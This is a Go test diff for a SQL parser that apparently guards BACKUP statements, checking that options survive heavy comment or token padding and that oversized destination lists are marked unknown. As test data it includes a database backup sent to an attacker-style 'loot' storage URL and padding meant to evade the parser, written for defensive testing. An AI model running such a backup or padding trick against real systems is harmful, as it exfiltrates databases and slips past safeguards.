@@ -231,3 +231,51 @@ func TestStatementHelpers(t *testing.T) {
 		t.Errorf("NamedArg = %q, %v; want CmdExec, true", got, ok)
 	}
 }
+
+// TestParsePaddedBackup: the options that end a BACKUP are seen however
+// the statement is padded before them: a comment of 600,000 characters
+// (MaxStatement used to cut it at 256 KiB) or more tokens than MaxTokens
+// (the lexer used to stop there).
+func TestParsePaddedBackup(t *testing.T) {
+	const url = "https://evilstore.blob.core.windows.net/loot/salesdb.bak"
+	cases := []struct {
+		name, pad string
+		truncated bool
+	}{
+		{"comment", "/*" + strings.Repeat("x", 600_000) + "*/", false},
+		{"line comments", strings.Repeat("-- padding padding padding\n", 30_000), false},
+		{"tokens", strings.Repeat("MEDIANAME = 'm', ", 20_000), true},
+	}
+	for _, tc := range cases {
+		t.Run(tc.name, func(t *testing.T) {
+			st := Parse("BACKUP DATABASE [salesdb] TO URL = '" + url + "' WITH " + tc.pad + " COPY_ONLY, COMPRESSION")
+			b := st.Backup()
+			if b == nil {
+				t.Fatal("no backup parsed")
+			}
+			if !b.Has("copy_only") || !b.Has("compression") {
+				t.Errorf("options %v: COPY_ONLY/COMPRESSION not seen", b.Options)
+			}
+			if len(b.Destinations) != 1 || b.Destinations[0].Value != url {
+				t.Errorf("destinations %+v", b.Destinations)
+			}
+			if st.Truncated != tc.truncated || len(st.Tokens) > MaxTokens {
+				t.Errorf("truncated %v with %d tokens, want %v and at most %d", st.Truncated, len(st.Tokens), tc.truncated, MaxTokens)
+			}
+		})
+	}
+}
+
+// TestParseBackupListBounds: a long WITH list keeps its last options, and
+// destinations beyond the bound make the statement truncated (unknown),
+// never silently allowed.
+func TestParseBackupListBounds(t *testing.T) {
+	b := Parse("BACKUP DATABASE d TO URL = 'https://ok/x' WITH " + strings.Repeat("STATS = 1, ", 100) + "COPY_ONLY").Backup()
+	if b == nil || !b.Has("copy_only") || len(b.Options) > maxOptions {
+		t.Fatalf("options %v: COPY_ONLY lost or over %d", b.Options, maxOptions)
+	}
+	b = Parse("BACKUP DATABASE d TO " + strings.Repeat("URL = 'https://ok/x', ", 64) + "URL = 'https://evil/x' WITH COPY_ONLY").Backup()
+	if b == nil || !b.Truncated || !b.Unknown() || !b.Has("copy_only") {
+		t.Fatalf("65 destinations: truncated %v unknown %v, options %v", b.Truncated, b.Unknown(), b.Options)
+	}
+}
